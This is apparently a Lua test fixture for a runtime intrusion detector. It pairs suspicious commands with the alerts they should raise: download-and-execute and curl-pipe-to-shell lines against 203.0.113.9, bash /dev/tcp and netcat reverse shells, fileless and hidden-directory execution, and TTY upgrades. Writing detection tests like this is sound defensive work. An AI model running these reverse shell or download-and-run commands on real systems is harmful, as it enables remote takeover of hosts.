-- Running what one brought, or what is there.

local DROPPED <const> = "it was put there after the start"

---@type system.Acts
return {
  prepare = [[
tool kubectl dial nc.traditional
# Where ECS mounts the agent of ECS Exec.
mkdir -p /managed-agents/execute-command
cp /bin/sh /managed-agents/execute-command/ssm-session-worker
mkdir -p /srv/package/DEBIAN
printf 'Package: act\nVersion: 1\nArchitecture: all\nMaintainer: a <a@a>\nDescription: act\n' >/srv/package/DEBIAN/control
dpkg-deb --build /srv/package /srv/act.deb
]],
  { "compiler", "cd /srv; echo 'int main(void) { return 0; }' >a.c; cc a.c -o a.out", says = "compiles: cc a.c -o a.out" },
  { "container_client", "kubectl get pods", says = "ran kubectl get pods" },
  { "download_and_run", "curl -s -o /srv/tool http://203.0.113.9/program; chmod +x /srv/tool; /srv/tool",
    says = "ran what had just been downloaded: /srv/tool (/srv/tool)", also = { exec_dropped = DROPPED,
      remote_copy_tool = "curl keeps a file" } },
  { "download_and_run", "curl -s -o /srv/script http://203.0.113.9/script; chmod +x /srv/script; /srv/script", how = "of a script",
    says = "/srv/script", also = { exec_dropped = DROPPED, remote_copy_tool = "curl keeps a file" } },
  { "download_and_run", "cd /srv; curl -s -O http://203.0.113.9/install.sh; bash install.sh", how = "given to a shell",
    says = "bash install.sh", also = { remote_copy_tool = "curl keeps a file" } },
  { "dropped_binary", "cp /bin/true /tmp/update; chmod +x /tmp/update", says = "made /tmp/update executable" },
  { "ecs_exec_session", "/managed-agents/execute-command/ssm-session-worker -c 'sh -c id; :'", says = "ECS Exec session: sh -c id" },
  { "exec_dev_shm", "cp /bin/true /dev/shm/x; /dev/shm/x", says = "ran /dev/shm/x", also = { exec_dropped = DROPPED } },
  { "exec_dev_shm", "echo : >/dev/shm/script; sh /dev/shm/script", how = "of a script", says = "sh /dev/shm/script" },
  { "exec_dropped", "cp /bin/true /var/lib/helper; /var/lib/helper", says = "/var/lib/helper (/var/lib/helper)" },
  { "exec_dropped", "printf '#!/bin/sh\n:\n' >/srv/helper; chmod +x /srv/helper; /srv/helper", how = "of a script", says = "/srv/helper" },
  { "exec_fileless", [["$MW_BUILD/tests/programs/vehicle" deleted /bin/true]], says = "whose program has no name", also = {
    exec_dropped = DROPPED } },
  { "exec_tmp_hidden", "mkdir /tmp/.X11; cp /bin/true /tmp/.X11/x; /tmp/.X11/x", says = "ran the hidden program /tmp/.X11/x", also = {
    exec_dropped = DROPPED } },
  { "interactive_shell", [[printf 'send exit\\n\n' | "$MW_BUILD/tests/programs/pty" bash]], says = "bash on terminal" },
  { "interpreter_oneliner", [[/usr/bin/python3 -c 'import socket; socket.create_connection(("203.0.113.9", 443))']],
    says = "import socket" },
  { "interpreter_oneliner", "perl -e 'socket(S, 2, 1, 6)'", how = "of perl", says = "ran perl -e socket" },
  { "lolbin_shell", "find /srv -maxdepth 0 -exec /bin/sh ';'", says = "find started /bin/sh" },
  { "memfd_exec", [["$MW_BUILD/tests/programs/vehicle" memfd /bin/true]], says = "ran a program from memory" },
  { "package_manager", "dpkg -i /srv/act.deb", says = "dpkg -i /srv/act.deb" },
  { "pipe_to_shell", "sh -c 'curl -s http://203.0.113.9/install | sh'", says = "ran a download: sh -c curl" },
  { "pipe_to_shell", "bash -c 'bash <(curl -s http://203.0.113.9/install)'", how = "by a descriptor", says = "bash -c bash <(curl" },
  { "reverse_shell_cmdline", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/2222 0>&1'", says = "bash -i >& /dev/tcp/203.0.113.9/2222", also = {
    reverse_shell_stdio = "what it ends in", shell_opens_connection = "how bash does it" } },
  { "reverse_shell_cmdline", "sh -c 'mkfifo /srv/f; sh </srv/f | nc 203.0.113.9 2222 >/srv/f'", how = "by netcat and a pipe",
    says = "mkfifo /srv/f", also = { network_recon_tool = "netcat itself" } },
  { "reverse_shell_cmdline", "nc.traditional -e /bin/sh 203.0.113.9 2222", how = "by netcat alone",
    says = "nc.traditional -e /bin/sh", also = { network_recon_tool = "netcat itself", reverse_shell_stdio = "what it ends in" } },
  { "reverse_shell_stdio", "dial -e /bin/sh 203.0.113.9 2222", says = "talks to 203.0.113.9:2222" },
  { "shell_opens_connection", "bash -c 'echo x >/dev/tcp/203.0.113.9/443'", says = "connected to 203.0.113.9:443" },
  { "tty_upgrade", "script -qc /bin/true /dev/null", says = "made itself a terminal: script" },
  { "tty_upgrade", [[/usr/bin/python3 -c 'import pty; pty.spawn("/bin/true")']], how = "by Python", says = "pty.spawn", also = {
    interpreter_oneliner = "it is one" } },
}
